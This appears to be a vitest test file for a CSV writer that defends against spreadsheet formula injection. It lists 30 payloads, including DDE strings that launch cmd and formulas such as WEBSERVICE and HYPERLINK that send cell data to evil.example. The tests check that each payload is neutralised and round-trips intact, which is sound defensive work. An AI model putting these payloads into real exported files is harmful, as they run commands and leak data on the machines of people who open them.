import { afterAll, expect, test } from 'vitest'
import { csvLine } from './csv.ts'
import { recordSecurityCount } from './testing/security-counts.ts'

/** Reads RFC 4180 by its own rules, knowing nothing of how it was written. */
function parse(text: string, separator: string): string[][] {
  const records: string[][] = []
  let [record, cell, isQuoted, at] = [[] as string[], '', false, 0]
  while (at < text.length) {
    const character = text[at] as string
    if (isQuoted) {
      if (character !== '"') cell += character
      else if (text[at + 1] === '"') {
        cell += '"'
        at += 1
      } else isQuoted = false
    } else if (character === '"') isQuoted = true
    else if (character === separator) {
      record.push(cell)
      cell = ''
    } else if (character === '\r' && text[at + 1] === '\n') {
      records.push([...record, cell])
      record = []
      cell = ''
      at += 1
    } else cell += character
    at += 1
  }
  return records
}

/** Takes the apostrophes away again that stand before what could begin a formula. */
const stripped = (cell: string): string =>
  cell.replace(/^'(?='*[=+\-@＝＋－＠\t\r\n])/, '').replace(/([,;|\t\r\n"])'(?='*[=+\-@＝＋－＠])/g, '$1')

const counts = { tried: 0, held: 0 }
afterAll(() =>
  recordSecurityCount({
    row: '8',
    title: 'formula payloads in CSV, with commas and with semicolons, each back whole',
    count: counts.tried,
    bar: 60,
    failed: counts.tried - counts.held
  })
)

const payloads = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  '=IMPORTXML(CONCAT("https://evil.example/",A2),"//a")',
  '=WEBSERVICE("https://evil.example/"&A1)',
  "=2+5+cmd|'/C notepad'!A0",
  '=DDE("cmd";"/C calc";"x")',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-1+1',
  "-2+3+cmd|' /C calc'!E0",
  '@SUM(1+1)',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  'Garcia,=1+1',
  'Garcia;=1+1',
  'Garcia;@SUM(1)',
  '";=1+1;"',
  '","=1+1","',
  '"=1+1"',
  'Garcia\n=1+1',
  "'=1+1",
  "''@x;'=y"
]

test.each([',', ';'] as const)('no payload reaches a spreadsheet as a formula, and each comes back whole (separator %s)', (separator) => {
  expect(payloads.length).toBe(30)
  counts.tried += payloads.length
  const text = payloads.map((payload) => csvLine(['Garcia Lopez, María', payload, 'x'], separator)).join('')
  const records = parse(text, separator)
  expect(records.map((record) => record.length)).toEqual(payloads.map(() => 3))
  const read = records.map((record) => record[1] as string)
  expect(read.map(stripped)).toEqual(payloads)
  // Whatever separator the reader expects, no cell of his begins with a sign.
  for (const other of [',', ';', '\t', '|']) {
    for (const cell of parse(text, other).flat())
      expect(cell.replace(/^["\s]*/, ''), `read with ${JSON.stringify(other)}`).not.toMatch(/^[=+\-@＝＋－＠]/)
  }
  counts.held += payloads.length
})

test('a line is quoted throughout, ends in CR LF, and numbers stay numbers', () => {
  expect(csvLine(['O’Neill, "Ann"', -3, null, 0], ',')).toBe('"O’Neill, ""Ann""","-3","","0"\r\n')
  expect(csvLine(['a-b', 'x = y', '212-555-0100'], ';')).toBe('"a-b";"x = y";"212-555-0100"\r\n')
})
